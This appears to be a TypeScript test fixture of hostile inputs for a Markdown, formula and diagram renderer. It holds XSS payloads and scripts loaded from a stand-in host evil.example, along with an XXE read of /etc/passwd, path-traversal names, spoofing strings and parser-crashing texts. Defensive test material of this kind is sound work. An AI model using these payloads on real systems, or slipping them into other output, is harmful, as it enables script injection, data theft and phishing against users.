// Texts that try to run, open or load something, to look like something else, or to crash the parser. Everything that
// renders external text is tested with them, here and in a real browser.

const png = "data:image/png;base64,iVBORw0KGgo=";
const svg = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";

const schemes = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
  "\u0001javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "file:///etc/passwd", "blob:https://evil.example/1", "//evil.example/x", "wails://wails/", "intent://x#Intent;end", "about:blank",
];

const positions = (url: string) => [
  `[x](${url})`, `[x](<${url}>)`, `[x](${url} "title")`, `<${url}>`, `![x](${url})`, `[x][1]\n\n[1]: ${url}`, `[x]: ${url}\n\n[x]`,
  `[![x](${png})](${url})`, `- [x](${url})`, `> [x](${url})`, `| [x](${url}) |\n|---|\n| [y](${url}) |`, `# [x](${url})`, `**[x](${url})**`, `a[^1]\n\n[^1]: [x](${url})`, url,
];

const markup = [
  "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<<script>script>alert(1)<</script>/script>",
  "<img src=x onerror=alert(1)>", '<img src="https://evil.example/pixel.png">', `<img src='${svg}'>`, "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><script>alert(1)</script></svg>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>", "<math href=javascript:alert(1)><mi>x</mi></math>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example>",
  "<form action=//evil.example><input name=x autofocus onfocus=alert(1)><button>go</button></form>", "<isindex action=javascript:alert(1) type=image>",
  "<a href='https://ok.example' ping='//evil.example' onclick=alert(1)>x</a>", "<a href=javascript:alert(1)>x</a>", "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
  "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
  "<video><source onerror=alert(1)></video>", "<audio src=//evil.example autoplay>", "<details open ontoggle=alert(1)><summary>x</summary></details>", "<dialog open>x</dialog>",
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<!--><img src=x onerror=alert(1)>-->", "<x-custom onclick=alert(1)>x</x-custom>",
  "<div id=root class=shell data-component=dialog>x</div>", "<p><b><i><table><tr><td><p", "</div></main></body></html>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;script&amp;gt;", "&NewLine;&colon;&lpar;", "&#0;&#x110000;&#xD800;",
];

const embedded = [
  '![" onerror="alert(1)](data:image/png;base64,AAAA)', '[x](https://ok.example/"onmouseover="alert(1))', "[x](https://ok.example 't\" onmouseover=\"alert(1)')",
  "[<img src=x onerror=alert(1)>](https://ok.example)", '```"><img src=x onerror=alert(1)>\ncode\n```', '- ```"><script>alert(1)</script>\n  code\n  ```', "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "# <iframe src=x>", "- [ ] <img src=x onerror=alert(1)>", "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
  '[^"><img/src/onerror=alert(1)>]: x\n\ny[^"><img/src/onerror=alert(1)>]', "[__proto__]: https://ok.example\n\n[__proto__] [constructor] [^__proto__]\n\n[^__proto__]: x",
];

const formulas = [
  "\\href{javascript:alert(1)}{x}", "\\url{javascript:alert(1)}", "\\href{https://evil.example}{x}", "\\includegraphics{https://evil.example/x.png}", "\\htmlData{x=y, onclick=alert(1)}{z}",
  "\\htmlClass{shell}{x}", "\\htmlId{root}{x}", "\\htmlStyle{position:fixed;inset:0}{x}", "\\def\\a{\\a\\a}\\a", "\\newcommand{\\x}{\\x}\\x", "\\text{<img src=x onerror=alert(1)>}", "</math><script>alert(1)</script>",
  "\\rule{1000000em}{1000000em}", "\\hspace{-10000em}x", "\\color{red;background:url(//evil.example)}{x}", "\\unicode{60}script>", "\\mathchoice{a}{b}{c}", "\\gdef\\frac{}", "x" + "^{x".repeat(400) + "}".repeat(400),
].flatMap((tex) => [`$${tex}$`, `$$${tex}$$`, `$$\n${tex}\n$$`]);

/** Diagrams that try to escape from their image. */
export const hostileDiagrams: readonly string[] = [
  'graph TD\n  A[go] --> B\n  click A "javascript:alert(1)"', "graph TD\n  A --> B\n  click A call alert(1)", 'graph TD\n  A --> B\n  click A href "https://evil.example" _self',
  "graph TD\n  A[\"<img src=x onerror=alert(1)>\"] --> B[\"<script>alert(1)</script>\"]", "graph TD\n  A[\"<a href='javascript:alert(1)'>x</a>\"]", "graph TD\n  A[\"<iframe srcdoc='<script>parent.alert(1)</script>'>\"]",
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=alert(1)>"]\n  click A call alert(1)',
  '%%{init: {"themeCSS": "*{background:url(https://evil.example/x)} @import url(https://evil.example/y);"}}%%\ngraph TD\n  A --> B', '%%{init: {"fontFamily": "x;}</style><script>alert(1)</script>"}}%%\ngraph TD\n  A --> B',
  '%%{init: {"__proto__": {"polluted": true}}}%%\ngraph TD\n  A --> B', "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n  A[\"<img src=x onerror=alert(1)>\"]",
  "graph TD\n  A --> B\n  style A fill:url(https://evil.example/x),stroke:red", "graph TD\n  classDef x fill:#f9f,background:url(https://evil.example)\n  A:::x", 'graph TD\n  A@{ img: "https://evil.example/x.png", label: "x" }', 'graph TD\n  A@{ "\\x69mg": "https://evil.example/y.png", label: "x" }', 'graph TD\n  A@{ icon: "fa:user" }',
  "sequenceDiagram\n  A->>B: <img src=x onerror=alert(1)>\n  link A: x @ javascript:alert(1)", "classDiagram\n  class A\n  link A \"javascript:alert(1)\"\n  callback A \"alert\"", "gantt\n  section x\n  a :a1, 2024-01-01, 1d\n  click a1 call alert(1)",
  "stateDiagram-v2\n  s1: <svg onload=alert(1)>", "pie\n  \"<img src=x onerror=alert(1)>\" : 1", "graph TD\n  A[\"$$\\href{javascript:alert(1)}{x}$$\"]", "mindmap\n  root((<img src=x onerror=alert(1)>))", "this is no diagram <script>alert(1)</script>",
];

const spoofs = [
  "safe \u202e gpj.exe", "`rm \u2066-rf\u2069`", "[bank.example\u202e](https://evil.example)", "a\u200bb\u2060c\ufeff", "tags \u{e0069}\u{e0067}\u{e006e}", "https://\u0440\u0430ypal.example/login", "[https://bank.example](https://evil.example)",
  "https://bank.example@evil.example/", "https://bank.example\u2215login.evil.example", "www.bank.example\u202e.evil.example", "mailto:a@b.example?attach=/etc/passwd", "\u0000\u0007\u001b[31mred\u001b[0m", "zalgo" + "\u0301".repeat(2000),
];

/** Long or deeply nested texts, generated on demand. */
export const longTexts: Readonly<Record<string, () => string>> = {
  "a line of 1 MB": () => "word ".repeat(200_000),
  "a line of 1 MB without a space": () => "x".repeat(1_000_000),
  "code of 1 MB in one line": () => `\`\`\`js\n${"f(x)+".repeat(200_000)}\n\`\`\``,
  "quotes in quotes": () => `${"> ".repeat(20_000)}x`,
  "quotes in quotes, line by line": () => Array.from({ length: 300 }, (_, i) => `${">".repeat(i + 1)} x`).join("\n"),
  "lists in lists": () => Array.from({ length: 2000 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  "lists on one line": () => `${"- ".repeat(20_000)}x`,
  "numbers on one line": () => `${"1. ".repeat(10_000)}x`,
  brackets: () => "[".repeat(30_000),
  "images in images": () => `${"![".repeat(10_000)}${"](x)".repeat(10_000)}`,
  stars: () => "*a **b ".repeat(6000),
  underscores: () => "_".repeat(30_000),
  backticks: () => Array.from({ length: 300 }, (_, i) => "`".repeat(i)).join(" "),
  dollars: () => "$a ".repeat(15_000),
  "open formulas": () => "$$\nx\n".repeat(3000),
  notes: () => Array.from({ length: 3000 }, (_, i) => `[^${i}]: [^${i}]`).join("\n"),
  "table of many columns": () => `${"|a".repeat(3000)}|\n${"|-".repeat(3000)}|\n${"|b".repeat(3000)}|`,
  entities: () => "&lt;".repeat(20_000),
  "angle brackets": () => "<".repeat(30_000),
  "a deep formula": () => `$$${"{".repeat(1900)}${"}".repeat(1900)}$$`,
};

/** All short hostile texts as Markdown. */
export const hostileTexts: readonly string[] = [
  ...schemes.flatMap(positions), ...markup, ...markup.slice(0, 12).flatMap((m) => [`- ${m}`, `> ${m}`, `a ${m} b`, `<p>${m}`, `**${m}`, `[${m}](https://ok.example)`]),
  ...embedded, ...formulas, ...spoofs, ...hostileDiagrams.map((d) => `\`\`\`mermaid\n${d}\n\`\`\``),
];

/** File and tool names that try the same. */
export const hostileNames: readonly string[] = [
  "<img src=x onerror=alert(1)>.txt", "\u202egnp.exe", "a\u200b.txt", "../../etc/passwd", "javascript:alert(1)", "\u0000x", '" onmouseover="alert(1)', "x\ny", `${"n".repeat(5000)}.txt`, "CON", "{{constructor.constructor('alert(1)')()}}",
];
